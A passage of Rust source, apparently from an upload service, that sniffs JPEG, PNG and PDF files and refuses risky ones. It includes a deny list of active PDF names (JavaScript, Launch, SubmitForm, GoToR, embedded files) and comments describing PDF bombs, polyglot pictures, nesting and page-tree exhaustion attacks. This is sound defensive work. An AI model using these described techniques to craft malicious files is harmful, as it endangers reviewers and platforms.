//! What a file is, judged by its content: the types accepted as scans and vouchers, and
//! what can be read off them cheaply (pixel size, page count).

/// A type accepted for upload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileType {
    /// JPEG image.
    Jpeg,
    /// PNG image.
    Png,
    /// PDF document.
    Pdf,
}

impl FileType {
    /// The MIME type.
    pub fn mime(self) -> &'static str {
        match self {
            FileType::Jpeg => "image/jpeg",
            FileType::Png => "image/png",
            FileType::Pdf => "application/pdf",
        }
    }
}

impl FileType {
    /// The name endings files of this type go by, the usual one first.
    pub fn extensions(self) -> &'static [&'static str] {
        match self {
            FileType::Jpeg => &["jpg", "jpeg", "jpe", "jfif"],
            FileType::Png => &["png"],
            FileType::Pdf => &["pdf"],
        }
    }
}

/// An uploaded file's name as it is shown (to a reviewer, in a history, on a phone) and
/// never used as a path: its last path part, without control, direction or the characters
/// no file system allows in a name (`<>:"|?*`), at most 100 characters; `fallback` when
/// nothing is left. Once the content is known (`kind`), a name that ends otherwise gets
/// the type's ending added — a JPEG sent as `…gpj.exe` is shown as `…gpj.exe.jpg`, not as
/// a program. A browser sends `"`, a line feed and a carriage return in a name as `%22`,
/// `%0A` and `%0D` (the HTML standard's form encoding): those go as the characters would,
/// not shown as codes (`报告%22终版%22.png`).
pub fn shown_file_name(name: Option<&str>, kind: Option<FileType>, fallback: &str) -> String {
    let name = name
        .unwrap_or_default()
        .replace("%22", "")
        .replace("%0A", "")
        .replace("%0D", "");
    let base = name.rsplit(['/', '\\']).next().unwrap_or_default();
    let unsafe_char = |c: &char| {
        super::is_unsafe_for_terminal(*c) || super::is_invisible(*c) || "<>:\"|?*".contains(*c)
    };
    let clean: String = base.chars().filter(|c| !unsafe_char(c)).take(100).collect();
    // Dots and spaces at either end name nothing (`..`, ` .png`).
    let clean = match clean.trim_matches(|c: char| c == '.' || c.is_whitespace()) {
        "" => fallback.to_owned(),
        _ => clean.trim().trim_end_matches('.').to_owned(),
    };
    let Some(kind) = kind else {
        return clean;
    };
    let ending = clean
        .rsplit_once('.')
        .map(|(_, ext)| ext.to_ascii_lowercase());
    if ending.is_some_and(|ext| kind.extensions().contains(&ext.as_str())) {
        clean
    } else {
        format!("{clean}.{}", kind.extensions()[0])
    }
}

/// The type of a file by its first bytes, if it is one we accept.
pub fn sniff(data: &[u8]) -> Option<FileType> {
    if data.starts_with(&[0xFF, 0xD8, 0xFF]) {
        Some(FileType::Jpeg)
    } else if data.starts_with(b"\x89PNG\r\n\x1a\n") {
        Some(FileType::Png)
    } else if data.starts_with(b"%PDF-") {
        Some(FileType::Pdf)
    } else {
        None
    }
}

/// The most pixels an uploaded image may have (a 600-dpi A4 scan is 35 MP): larger ones
/// would take the platform's memory to decode.
pub const MAX_PIXELS: u64 = 40_000_000;

/// The fewest pixels an uploaded image may have on its shorter side: fewer (a thumbnail, an
/// icon, a corner cut out of a screenshot) and no reviewer can read a form or a voucher
/// off it, and the customer would pay for an order only to have it returned. A form
/// scanned at 50 dpi, or a phone's screenshot of a transfer, has more.
pub const MIN_SIDE: u32 = 300;

/// What an accepted file turned out to be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Inspected {
    /// Its type.
    pub kind: FileType,
    /// Width and height, for an image.
    pub pixels: Option<(u32, u32)>,
    /// Page count, for a PDF.
    pub pages: Option<usize>,
}

/// Why a file is not accepted as a scan or voucher.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileProblem {
    /// Not JPEG, PNG or PDF by its content.
    NotAScan,
    /// A PDF that does things when opened (JavaScript, launching a program, files inside
    /// it, forms that send data): a scan has none, and a reviewer opens it on their own
    /// machine.
    ActivePdf,
    /// A picture with a PDF inside it (appended after the picture's end): opened by its
    /// content, it is the PDF — no camera or scanner writes one.
    CarriesPdf,
    /// It starts like one but cannot be read (truncated, corrupt, a fake).
    Unreadable(FileType),
    /// An image with more pixels than [`MAX_PIXELS`].
    TooManyPixels(u32, u32),
    /// An image with fewer than [`MIN_SIDE`] pixels on its shorter side: width and height.
    TooFewPixels(u32, u32),
    /// An image within [`MAX_PIXELS`] whose pixels take more than [`MAX_DECODED_BYTES`]
    /// decoded (16 bits a channel, an alpha channel): width and height.
    TooDeepPixels(u32, u32),
    /// A PDF locked with a password or permissions (bank statements often are): its
    /// contents cannot be checked.
    LockedPdf,
    /// A PDF written in a way no scanner writes and that cannot be measured before it is
    /// parsed (old text or LZW encodings, filters chained, hundreds of updates saved onto
    /// it): saved again as PDF, or a photo, goes through.
    UnusualPdf,
    /// A PDF whose check ran past the time or memory the platform gives one (it checks
    /// each in a process of its own with both bounded), or whose streams unpack to more
    /// than [`MAX_PDF_INFLATED`]: a file built to exhaust the parser, or one with far more
    /// inside than a scan.
    CostlyPdf,
    /// Every check slot stayed taken for as long as an upload waits for one: nothing is
    /// wrong with the file, it is sent again a little later.
    ChecksBusy,
}

/// Reads enough of `data` to know it is what it claims: an image's header must decode to
/// a size within [`MAX_PIXELS`]; a PDF must parse and have at least one page. Used by the
/// platform on every upload and by the counter before sending.
pub fn inspect(data: &[u8]) -> Result<Inspected, FileProblem> {
    let kind = sniff(data).ok_or(FileProblem::NotAScan)?;
    match kind {
        FileType::Pdf => {
            pdf_bounds(data)?;
            let pdf =
                hayro_syntax::Pdf::new(data.to_vec()).map_err(|_| FileProblem::Unreadable(kind))?;
            let pages = pdf.pages().len();
            if pages == 0 {
                return Err(FileProblem::Unreadable(kind));
            }
            if active_content(&pdf) {
                return Err(FileProblem::ActivePdf);
            }
            Ok(Inspected {
                kind,
                pixels: None,
                pages: Some(pages),
            })
        }
        FileType::Jpeg | FileType::Png => {
            let (width, height, depth) = image_header(data).ok_or(FileProblem::Unreadable(kind))?;
            // Its pixels, and the bytes they take decoded: a 16-bit RGBA picture of 40 MP
            // (310 KB of PNG) is 320 MB.
            let pixels = u64::from(width) * u64::from(height);
            if pixels > MAX_PIXELS {
                return Err(FileProblem::TooManyPixels(width, height));
            }
            if pixels.saturating_mul(depth) > MAX_DECODED_BYTES {
                return Err(FileProblem::TooDeepPixels(width, height));
            }
            if width.min(height) < MIN_SIDE {
                return Err(FileProblem::TooFewPixels(width, height));
            }
            // Cut off in sending (a dropped upload, a copy stopped short): its header reads,
            // its picture does not, and a reviewer would find half a voucher.
            if !ends_whole(kind, data) {
                return Err(FileProblem::Unreadable(kind));
            }
            // A PDF carried inside the picture (appended after its end, or in a comment): a
            // viewer that goes by content opens the PDF, scripts and all, and no camera or
            // scanner writes one there.
            if let Some(at) = find(data, b"%PDF-")
                && carries_pdf(&data[at..])
            {
                return Err(FileProblem::CarriesPdf);
            }
            Ok(Inspected {
                kind,
                pixels: Some((width, height)),
                pages: None,
            })
        }
    }
}

/// Whether bytes found inside a picture after its first `%PDF-` hold a PDF's objects
/// (an object's header or end, a stream's end, `startxref`, `trailer`), well formed or not: a lenient viewer opens a broken
/// one too. One pass over the bytes, nothing parsed — a picture is checked in the platform
/// itself, not in the bounded process PDFs are — and bytes that only happen to read
/// `%PDF-` inside a photo's compressed data hold none of them.
fn carries_pdf(tail: &[u8]) -> bool {
    // An object's header as writers write it (`1 0 obj`), its end, a stream's end, and
    // the file's tail: a repairing viewer needs no more than the first.
    [
        &b" 0 obj"[..],
        b"endobj",
        b"endstream",
        b"startxref",
        b"trailer",
    ]
    .iter()
    .any(|word| contains(tail, word))
}

/// Whether an image runs to its end: a PNG to its `IEND` chunk, a JPEG to its end-of-image
/// marker (which the compressed data cannot hold: a 0xFF byte there is always followed by
/// 0x00 or a restart marker). Some cameras write their own data after the end; it is
/// looked for near the end, not at it.
fn ends_whole(kind: FileType, data: &[u8]) -> bool {
    match kind {
        FileType::Png => {
            let tail = &data[data.len().saturating_sub(256 * 1024)..];
            tail.windows(4).any(|w| w == b"IEND")
        }
        // After the picture's own data begins: the markers before it are walked by their
        // lengths, so a thumbnail's end inside them does not count; what a camera writes
        // after the end (a motion photo's video) is not looked into.
        FileType::Jpeg => jpeg_scan_start(data)
            .is_some_and(|start| data[start..].windows(2).any(|w| w == [0xFF, 0xD9])),
        FileType::Pdf => true,
    }
}

/// Where a JPEG's first scan (its compressed picture) starts, its segments before it
/// walked by their lengths; `None` when they run off the end.
fn jpeg_scan_start(data: &[u8]) -> Option<usize> {
    let mut at = 2;
    loop {
        let marker = *data.get(at + 1)?;
        if *data.get(at)? != 0xFF {
            return None;
        }
        match marker {
            // Fill bytes before a marker.
            0xFF => at += 1,
            0xDA => return Some(at),
            0x01 | 0xD0..=0xD7 => at += 2,
            _ => {
                let length =
                    usize::from(u16::from_be_bytes([*data.get(at + 2)?, *data.get(at + 3)?]));
                at += 2 + length;
            }
        }
    }
}

/// The most bytes an uploaded image may take decoded, as its header says (the decoding of
/// scans is bounded the same: `scan_codes::decode_upright`).
pub const MAX_DECODED_BYTES: u64 = 160 * 1024 * 1024;

/// Width, height and bytes per pixel decoded of a PNG or JPEG image, from its header
/// (`None` when the header does not decode or gives an empty image).
fn image_header(data: &[u8]) -> Option<(u32, u32, u64)> {
    use image::ImageDecoder;
    let format = match sniff(data)? {
        FileType::Png => image::ImageFormat::Png,
        FileType::Jpeg => image::ImageFormat::Jpeg,
        FileType::Pdf => return None,
    };
    let decoder = image::ImageReader::with_format(std::io::Cursor::new(data), format)
        .into_decoder()
        .ok()?;
    let (width, height) = decoder.dimensions();
    let depth = u64::from(decoder.color_type().bytes_per_pixel());
    (width > 0 && height > 0).then_some((width, height, depth))
}

/// Width and height of a PNG or JPEG image, from its decoded header (`None` when the header
/// does not decode or gives an empty image).
pub fn image_size(data: &[u8]) -> Option<(u32, u32)> {
    let format = match sniff(data)? {
        FileType::Png => image::ImageFormat::Png,
        FileType::Jpeg => image::ImageFormat::Jpeg,
        FileType::Pdf => return None,
    };
    let (width, height) = image::ImageReader::with_format(std::io::Cursor::new(data), format)
        .into_dimensions()
        .ok()?;
    (width > 0 && height > 0).then_some((width, height))
}

/// Whether any object of `pdf` (those in compressed object streams too) asks a viewer to
/// act: a script (`/JS`, `/JavaScript`), an action that launches, imports, submits or
/// plays (`/S /Launch` …), files carried inside (`/EmbeddedFile(s)`), an XFA form, rich
/// media or a movie, sound or screen to play, or actions run on events (`/AA`). A link to
/// another file (`/GoToR`, which on Windows reaches out to a share with the reader's
/// credentials) is one anywhere; a web link only when it opens by itself (`/OpenAction`):
/// a clicked link in an exported document is ordinary. A page to open at (`/OpenAction` to
/// a page, as scanners write) is not one.
fn active_content(pdf: &hayro_syntax::Pdf) -> bool {
    use hayro_syntax::object::{Dict, MaybeRef, Name, Object};
    /// Annotations that play something.
    const PLAYERS: [&[u8]; 5] = [b"RichMedia", b"Movie", b"Sound", b"Screen", b"3D"];
    fn active(object: &Object<'_>, depth: u8) -> bool {
        if depth > 12 {
            return false;
        }
        let dict = match object {
            Object::Dict(dict) => dict,
            Object::Stream(stream) => stream.dict(),
            Object::Array(array) => {
                return array.raw_iter().any(|item| match item {
                    MaybeRef::NotRef(inner) => active(&inner, depth + 1),
                    MaybeRef::Ref(_) => false,
                });
            }
            _ => return false,
        };
        // The names of [`ACTIVE_NAMES`] as keys or values (the reading before the parser
        // refuses them anywhere; here as the parser reads each object), and annotations
        // that play something.
        dict.entries().any(|(key, value)| {
            let key: &[u8] = key.as_ref();
            if ACTIVE_NAMES.contains(&key) {
                return true;
            }
            match value {
                MaybeRef::NotRef(Object::Name(name)) if key == b"Subtype" => {
                    let name: &[u8] = name.as_ref();
                    PLAYERS.contains(&name) || ACTIVE_NAMES.contains(&name)
                }
                MaybeRef::NotRef(Object::Name(name)) => {
                    let name: &[u8] = name.as_ref();
                    ACTIVE_NAMES.contains(&name)
                }
                MaybeRef::NotRef(inner) => active(&inner, depth + 1),
                MaybeRef::Ref(_) => false,
            }
        })
    }
    // A web address opened by itself, the action written in place or as an object of its
    // own.
    // An action and those it chains to (`/Next`, one or several), a few deep.
    fn opens_uri(action: &Dict<'_>, depth: u8) -> bool {
        use hayro_syntax::object::Array;
        if depth > 8 {
            return false;
        }
        let uri = action.get::<Name<'_>>(b"S").is_some_and(|name| {
            let name: &[u8] = name.as_ref();
            name == b"URI"
        });
        uri || action
            .get::<Dict<'_>>(b"Next")
            .is_some_and(|next| opens_uri(&next, depth + 1))
            || action.get::<Array<'_>>(b"Next").is_some_and(|all| {
                all.iter::<Dict<'_>>()
                    .any(|next| opens_uri(&next, depth + 1))
            })
    }
    let opens_a_link = |object: &Object<'_>| {
        let Object::Dict(dict) = object else {
            return false;
        };
        dict.get::<Dict<'_>>(b"OpenAction")
            .is_some_and(|action| opens_uri(&action, 0))
    };
    pdf.objects()
        .into_iter()
        .any(|object| active(&object, 0) || opens_a_link(&object))
}

/// The number of pages of a PDF that parses (`None` when it does not, or has none), read
/// here, unbounded: the tests' measure. The platform reads a stored PDF's pages as it
/// checks an upload (`server::scan_match::UploadChecks::pdf_pages`, in a process of its
/// own).
#[cfg(test)]
fn pdf_pages(data: &[u8]) -> Option<usize> {
    if sniff(data)? != FileType::Pdf {
        return None;
    }
    if !pdf_within_bounds(data) {
        return None;
    }
    let pdf = hayro_syntax::Pdf::new(data.to_vec()).ok()?;
    let pages = pdf.pages().len();
    (pages > 0).then_some(pages)
}

/// The most a PDF's streams other than its pictures may inflate to, all together: the
/// parser unpacks its object and cross-reference streams whole, in memory, and a scan's
/// come to a few hundred kilobytes. A 0.5 MB file that unpacks to 500 MB (a "PDF bomb")
/// had taken half a minute and half a gigabyte per upload.
pub const MAX_PDF_INFLATED: u64 = 32 << 20;

/// Whether reading `pdf`'s structure stays within [`MAX_PDF_INFLATED`], judged before the
/// parser unpacks anything. Every `stream` in the file is looked at, whatever object it
/// belongs to: all but pictures are inflated as they would be (zlib, then raw deflate, as
/// the parser tries them), counting the bytes and keeping none. Refused outright, as no
/// scanner writes them: encryption (its streams cannot be measured:
/// [`FileProblem::LockedPdf`]), a stream whose filters or type are given by reference, the
/// old text and LZW encodings and chained filters that would hide a compressed stream from
/// the count, and more than [`MAX_PDF_REVISIONS`] revisions ([`FileProblem::UnusualPdf`]).
/// Streams that unpack past [`MAX_PDF_INFLATED`] are [`FileProblem::CostlyPdf`]; what else
/// is beyond the bounds is [`FileProblem::Unreadable`]; a name of [`ACTIVE_NAMES`] anywhere
/// in the syntax is [`FileProblem::ActivePdf`].
fn pdf_bounds(pdf: &[u8]) -> Result<(), FileProblem> {
    let damaged = || Err(FileProblem::Unreadable(FileType::Pdf));
    if contains(pdf, b"/Encrypt") {
        return Err(FileProblem::LockedPdf);
    }
    // Its revisions: the parser reads every cross-reference section down the chain of
    // updates, at a cost that grows with their square.
    let mut sections = xref_keywords(pdf);
    if sections > MAX_PDF_REVISIONS {
        return Err(FileProblem::UnusualPdf);
    }
    let mut budget = MAX_PDF_INFLATED;
    let mut syntax = Syntax::default();
    // Where the syntax not yet read starts (the file's, outside its streams' data).
    let mut syntax_from = 0;
    let mut from = 0;
    while let Some(at) = find(&pdf[from..], b"stream").map(|i| from + i) {
        from = at + 6;
        let mut xref_entries: Option<(u64, u64)> = None;
        // `endstream`, or a word that merely ends so.
        if at >= 3 && &pdf[at - 3..at] == b"end" {
            continue;
        }
        // Only after a dictionary is it a stream (not the word in a comment or a string,
        // which would hide what follows from this reading) — with blanks or a comment
        // between, as the parser reads it.
        let Some((start, dict)) = stream_dict(&pdf[..at]) else {
            continue;
        };
        // After `stream` the end of its line (the parser also takes a bare CR; blanks
        // before it are taken as nothing); anything else is not followed here.
        let after = pdf.get(from..).unwrap_or_default();
        let blanks = after
            .iter()
            .take_while(|c| matches!(c, b' ' | b'\t' | b'\0'))
            .count();
        let data = match after.get(blanks..) {
            Some([b'\r', b'\n', rest @ ..])
            | Some([b'\n', rest @ ..])
            | Some([b'\r', rest @ ..]) => rest,
            _ => return Err(FileProblem::UnusualPdf),
        };
        if !syntax.read(&pdf[syntax_from.min(at)..at]) {
            return if syntax.unusual {
                Err(FileProblem::UnusualPdf)
            } else {
                damaged()
            };
        }
        // The data is not syntax: read on after its `endstream`. An object written inside
        // it (`7 0 obj`) is one the parser can be sent to by its table, unread here.
        let data_start = pdf.len() - data.len();
        let data_end = find(data, b"endstream").unwrap_or(data.len());
        if holds_object(&data[..data_end]) {
            return Err(FileProblem::UnusualPdf);
        }
        syntax_from = data_start + data_end + 9;
        if data_end == data.len() {
            syntax_from = pdf.len();
        }
        from = syntax_from.max(from);
        // An object stream's objects are syntax the parser reads: read here too, unpacked
        // (as is a stream whose dictionary could not be read with certainty).
        let (objects, plain) = {
            let dict = dict.as_slice();
            let referenced = |key: &[u8]| {
                find(dict, key).is_some_and(|i| {
                    dict[i + key.len()..]
                        .iter()
                        .find(|c| !is_pdf_space(**c))
                        .is_some_and(u8::is_ascii_digit)
                })
            };
            if referenced(b"/Filter") || referenced(b"/Type") {
                return Err(FileProblem::UnusualPdf);
            }
            // A picture is taken for one only when its dictionary could not be misread:
            // no string or comment in it (where a `<<` would mislead the search for its
            // start), and right after its object's `N G obj`.
            let picture = contains(dict, b"/Image")
                && !contains(dict, b"/ObjStm")
                && !contains(dict, b"/First")
                && !contains(dict, b"/XRef")
                && !dict.iter().any(|c| matches!(c, b'(' | b')' | b'%'))
                && after_object_header(&pdf[..start]);
            if picture {
                continue;
            }
            // Only Flate, once, is measured here: any other filter on a stream that is not
            // a picture (`/RL`, a picture's `/DCT` or `/CCF` on an object stream) would
            // hide its true size, and so would chained filters.
            let Some(filters) = filter_names(dict) else {
                return Err(FileProblem::UnusualPdf);
            };
            if filters.len() > 1
                || filters
                    .iter()
                    .any(|f| f.as_slice() != b"FlateDecode" && f.as_slice() != b"Fl")
            {
                return Err(FileProblem::UnusualPdf);
            }
            // And however the key is written: any other filter's name anywhere in the
            // dictionary (the text encodings and LZW among them, which would hide a packed
            // stream from the count), or Flate's twice.
            const OTHER_FILTERS: [&[u8]; 15] = [
                b"ASCIIHexDecode",
                b"ASCII85Decode",
                b"RL",
                b"RunLengthDecode",
                b"DCT",
                b"DCTDecode",
                b"CCF",
                b"CCITTFaxDecode",
                b"JBIG2Decode",
                b"JPXDecode",
                b"Crypt",
                b"AHx",
                b"A85",
                b"LZW",
                b"LZWDecode",
            ];
            if names(dict, b"FlateDecode") + names(dict, b"Fl") > 1
                || OTHER_FILTERS.iter().any(|f| names(dict, f) > 0)
            {
                return Err(FileProblem::UnusualPdf);
            }
            // A cross-reference stream is a revision's section too; its entries are as
            // many as its bytes hold (checked once it is inflated).
            if names(dict, b"XRef") > 0 {
                sections += 1;
                if sections > MAX_PDF_REVISIONS {
                    return Err(FileProblem::UnusualPdf);
                }
                match xref_stream_entries(dict) {
                    Some(entries) => xref_entries = Some(entries),
                    None => return damaged(),
                }
            }
            // An object stream is one with `/First`, whatever its type says; unpacked with
            // a predictor its bytes would not be what is read here.
            let objects = contains(dict, b"/ObjStm")
                || contains(dict, b"/First")
                || dict.iter().any(|c| matches!(c, b'(' | b')' | b'%'));
            if objects && contains(dict, b"/Predictor") {
                return damaged();
            }
            // Written plain (no filter): its objects are its bytes as they are.
            (objects, filters.is_empty())
        };
        let mut kept = objects.then(Vec::new);
        let inflated =
            inflate(data, true, budget, kept.as_mut()).max(inflate(data, false, budget, None));
        if let Some(objects) = kept.as_mut().filter(|_| plain) {
            *objects = data[..data_end].to_vec();
        }
        // Past it: far more inside than a scan (a "PDF bomb"), not a damaged file.
        match budget.checked_sub(inflated) {
            Some(left) if inflated < budget => budget = left,
            _ => return Err(FileProblem::CostlyPdf),
        }
        // Entries of no width, or more than the stream holds (`/Index [1 2000000000]`
        // under `/W [0 0 0]`: 20 GB made room for from 400 bytes).
        if let Some((entries, width)) = xref_entries.take()
            && (width == 0 || entries.saturating_mul(width) > inflated.max(data.len() as u64))
        {
            return damaged();
        }
        if let Some(objects) = kept {
            // Its objects have no `N G obj` of their own: where each starts is in the
            // stream's head (pairs of number and offset, from `/First`).
            let starts = first_of(&dict)
                .map(|first| object_starts(&objects, first))
                .unwrap_or_default();
            // A head naming one object twice would credit two lists to one owner.
            let mut named = std::collections::HashSet::new();
            if starts.iter().any(|(_, number)| !named.insert(*number)) {
                return Err(FileProblem::UnusualPdf);
            }
            let mut inner = Syntax {
                kids: std::mem::take(&mut syntax.kids),
                lists: std::mem::take(&mut syntax.lists),
                unknown: syntax.unknown,
                starts,
                ..Syntax::default()
            };
            let sound = inner.read(&objects);
            syntax.kids = inner.kids;
            syntax.lists = inner.lists;
            syntax.unknown = inner.unknown;
            syntax.active |= inner.active;
            if inner.unusual {
                return Err(FileProblem::UnusualPdf);
            }
            if !sound {
                return damaged();
            }
        }
    }
    if !syntax.read(&pdf[syntax_from.min(pdf.len())..]) {
        return if syntax.unusual {
            Err(FileProblem::UnusualPdf)
        } else {
            damaged()
        };
    }
    // Shared, or a page moved under another node by a later save (which this reading
    // cannot tell apart): said as unusual, with what to send instead.
    if syntax.shares_kids() {
        return Err(FileProblem::UnusualPdf);
    }
    if syntax.active {
        return Err(FileProblem::ActivePdf);
    }
    Ok(())
}

/// Whether [`pdf_bounds`] lets `pdf` through to the parser (the tests' measure).
#[cfg(test)]
fn pdf_within_bounds(pdf: &[u8]) -> bool {
    pdf_bounds(pdf).is_ok()
}

/// The most cross-reference sections a PDF may have — its first and one for each update
/// saved onto it (a signature, a note): the parser reads them all, and a file of 10,000
/// empty updates (1 MB) had taken a minute of a core. Scans have one; edited and signed
/// files a few.
pub const MAX_PDF_REVISIONS: usize = 64;

/// How many cross-reference sections `pdf` has that start with the keyword `xref` (each
/// update written the classic way has one; those written as streams are counted with the
/// streams). The parser reads `xref` wherever a `/Prev` points, whatever comes before it:
/// every one is counted but `startxref`'s.
fn xref_keywords(pdf: &[u8]) -> usize {
    (0..pdf.len().saturating_sub(3))
        .filter(|&i| &pdf[i..i + 4] == b"xref" && !pdf[..i].ends_with(b"start"))
        .count()
}

/// Whether `data` (a stream's bytes, as written) holds an object header (`7 0 obj`).
fn holds_object(data: &[u8]) -> bool {
    let mut from = 0;
    while let Some(at) = find(&data[from..], b"obj").map(|i| from + i) {
        from = at + 3;
        if data
            .get(at + 3)
            .is_none_or(|c| is_pdf_space(*c) || matches!(c, b'<' | b'['))
            && after_object_header(&data[..at + 3])
        {
            return true;
        }
    }
    false
}

/// PDF's blanks: ASCII whitespace, form feed and NUL (which the parser skips too).
fn is_pdf_space(c: u8) -> bool {
    c.is_ascii_whitespace() || c == b'\0' || c == 0x0C
}

/// The names a stream dictionary's `/Filter` gives (one, or an array's); `None` when its
/// value is anything else (a reference, a comment before it) — not followed here.
fn filter_names(dict: &[u8]) -> Option<Vec<Vec<u8>>> {
    let Some(at) = find(dict, b"/Filter") else {
        return Some(Vec::new());
    };
    let rest = &dict[at + 7..];
    let rest = &rest[rest
        .iter()
        .position(|c| !is_pdf_space(*c))
        .unwrap_or(rest.len())..];
    let value = match rest.first() {
        Some(b'[') => &rest[1..rest.iter().position(|c| *c == b']').unwrap_or(rest.len())],
        Some(b'/') => &rest[..name_end(rest, 0)],
        _ => return None,
    };
    if value.contains(&b'%') {
        return None;
    }
    Some(
        value
            .split(|c| *c == b'/')
            .skip(1)
            .map(|name| {
                name.iter()
                    .copied()
                    .filter(|c| !is_pdf_space(*c))
                    .collect::<Vec<u8>>()
            })
            .filter(|name| !name.is_empty())
            .collect(),
    )
}

/// A cross-reference stream's entries, as `(count, bytes each)`: `/Index`'s counts (else
/// `/Size`) and `/W`'s widths; `None` when they cannot be read.
fn xref_stream_entries(dict: &[u8]) -> Option<(u64, u64)> {
    let numbers_after = |key: &[u8]| -> Option<Vec<u64>> {
        let at = find(dict, key)? + key.len();
        let rest = dict[at..].trim_ascii_start();
        let list = rest.strip_prefix(b"[")?;
        let end = list.iter().position(|c| *c == b']')?;
        list[..end]
            .split(|c| c.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .map(|w| std::str::from_utf8(w).ok()?.parse().ok())
            .collect()
    };
    let widths = numbers_after(b"/W")?;
    let width = widths.iter().try_fold(0u64, |sum, w| sum.checked_add(*w))?;
    let count = match numbers_after(b"/Index") {
        Some(index) => index
            .chunks(2)
            .map(|pair| pair.get(1).copied().unwrap_or(0))
            .try_fold(0u64, |sum, c| sum.checked_add(c))?,
        None => {
            let at = find(dict, b"/Size")? + 5;
            let digits: Vec<u8> = dict[at..]
                .iter()
                .skip_while(|c| c.is_ascii_whitespace())
                .take_while(|c| c.is_ascii_digit())
                .copied()
                .collect();
            std::str::from_utf8(&digits).ok()?.parse().ok()?
        }
    };
    Some((count, width))
}

/// How many times the name `/name` occurs in `dict` (a whole name: not the start of a
/// longer one).
fn names(dict: &[u8], name: &[u8]) -> usize {
    let whole = name.len() + 1;
    (0..dict.len().saturating_sub(name.len()))
        .filter(|&i| {
            dict[i] == b'/'
                && dict[i + 1..].starts_with(name)
                && dict
                    .get(i + whole)
                    .is_none_or(|c| !c.is_ascii_alphanumeric())
        })
        .count()
}

/// The deepest arrays and dictionaries may nest in a PDF's syntax: the parser reads them by
/// recursion, and a 10 KB file of 5,000 nested brackets had overflowed its stack and ended
/// the platform. A scan's go a few deep.
pub const MAX_PDF_NESTING: usize = 64;
/// The most pages a page tree may list, all its `/Kids` together: the parser walks it
/// whole, and a tree listing one child 500,000 times (or the same child twice at each of
/// 40 levels) had taken minutes and gigabytes.
pub const MAX_PDF_KIDS: usize = 20_000;

/// What [`Syntax::read`] has seen of a PDF's syntax so far.
#[derive(Debug, Default)]
struct Syntax {
    /// Arrays and dictionaries open now.
    depth: usize,
    /// References listed in `/Kids` arrays, all together.
    kids: usize,
    /// The kids each object lists, in any of its definitions (the parser reads the one
    /// its cross-reference table points at, which need not be the last). A page-tree node
    /// has one parent: a kid in two objects' lists (every node of a level listing both
    /// nodes of the next) makes the parser's walk of the tree double at each level — 40
    /// levels of 2 nodes, a few kilobytes, are 2⁴⁰ visits — while each list, and the
    /// count of kids, stays small ([`Syntax::shares_kids`]).
    lists: std::collections::HashMap<u64, std::collections::HashSet<u64>>,
    /// Definitions read so far (each `N G obj`), to tell one from the next.
    definition: u64,
    /// The definitions that listed kids: one list each (two in one object — one nested in
    /// the other — would be credited to one owner).
    listing: std::collections::HashSet<u64>,
    /// Written in a way no scanner writes and this reading cannot follow: `/Kids` not
    /// given as a list of references (a reference to an array, a comment or anything
    /// nested in it), an object stream's head naming one object twice.
    unusual: bool,
    /// The object being read, by its `N G obj` (a later revision of the same object
    /// may list its kids again).
    current: Option<u64>,
    /// In an object stream: where each of its objects starts, and its number.
    starts: Vec<(usize, u64)>,
    /// Lists whose object is not known, counted: each is a parent of its own.
    unknown: u64,
    /// A name that asks a viewer to act ([`ACTIVE_NAMES`]) written anywhere in the
    /// syntax, whether or not the parser would reach its object (one the parser drops —
    /// its header's generation not its table's — a viewer rebuilding the table finds).
    active: bool,
}

/// Names only a PDF that acts when opened writes (scripts, actions that launch, import,
/// submit, open other files or play, files carried inside, XFA forms, rich media, actions
/// run on events): none is needed by a scan, nor written by a scanner or an office
/// program's export. Found anywhere in a file's syntax, as keys or values, the file is
/// refused, whatever objects the parser reads.
const ACTIVE_NAMES: [&[u8]; 19] = [
    b"JS",
    b"JavaScript",
    b"AA",
    b"EmbeddedFile",
    b"EmbeddedFiles",
    // A file attached to a page, and a file specification carrying its file (`/EF`),
    // whatever the carried stream's type says.
    b"FileAttachment",
    b"EF",
    b"XFA",
    b"RichMedia",
    b"RichMediaContent",
    b"RichMediaExecute",
    b"Launch",
    b"ImportData",
    b"SubmitForm",
    b"GoToE",
    b"GoToR",
    b"Rendition",
    b"Movie",
    b"Sound",
];

impl Syntax {
    /// Reads `text` (PDF syntax: objects, not streams' data). False when it nests deeper
    /// than [`MAX_PDF_NESTING`], lists more than [`MAX_PDF_KIDS`] kids, lists a kid twice
    /// in one `/Kids`, or a kid another object lists too.
    fn read(&mut self, text: &[u8]) -> bool {
        let mut i = 0;
        while i < text.len() {
            match text[i] {
                b'o' if text[i..].starts_with(b"obj")
                    && text.get(i + 3).is_none_or(|c| !c.is_ascii_alphanumeric())
                    && after_object_header(&text[..i + 3]) =>
                {
                    self.current = object_number_before(&text[..i]);
                    self.definition += 1;
                }
                b'%' => {
                    while i < text.len() && !matches!(text[i], b'\n' | b'\r') {
                        i += 1;
                    }
                }
                b'(' => i = skip_string(text, i),
                b'<' if text.get(i + 1) == Some(&b'<') => {
                    self.depth += 1;
                    i += 1;
                }
                b'<' => {
                    while i < text.len() && text[i] != b'>' {
                        i += 1;
                    }
                }
                b'>' if text.get(i + 1) == Some(&b'>') => {
                    self.depth = self.depth.saturating_sub(1);
                    i += 1;
                }
                b'[' => self.depth += 1,
                b']' => self.depth = self.depth.saturating_sub(1),
                // A name, as the parser reads it (`#xx` escapes decoded): `/Kids`, however
                // written, is followed by its list of references and nothing else.
                b'/' if is_kids(text, i) => {
                    let after = name_end(text, i);
                    let Some((listed, end)) = kids_of(text, after) else {
                        self.unusual = true;
                        return false;
                    };
                    let mut seen = std::collections::HashSet::new();
                    if listed.iter().any(|n| !seen.insert(*n)) {
                        return false;
                    }
                    let parent = match self.starts.iter().rev().find(|(at, _)| *at <= i) {
                        Some((_, number)) => *number,
                        None => match self.current {
                            Some(number) => number,
                            None => {
                                self.unknown += 1;
                                u64::MAX - self.unknown
                            }
                        },
                    };
                    // Which definition lists them: in an object stream, the object its
                    // head places here; else the last `N G obj`.
                    let definition = match self.starts.iter().rposition(|(at, _)| *at <= i) {
                        Some(index) => index as u64,
                        None => self.definition,
                    };
                    if !self.listing.insert(definition) {
                        self.unusual = true;
                        return false;
                    }
                    self.kids += listed.len();
                    self.lists.entry(parent).or_default().extend(listed);
                    i = end;
                    continue;
                }
                b'/' => {
                    let end = name_end(text, i);
                    let name = &text[i + 1..end];
                    let active = if name.contains(&b'#') {
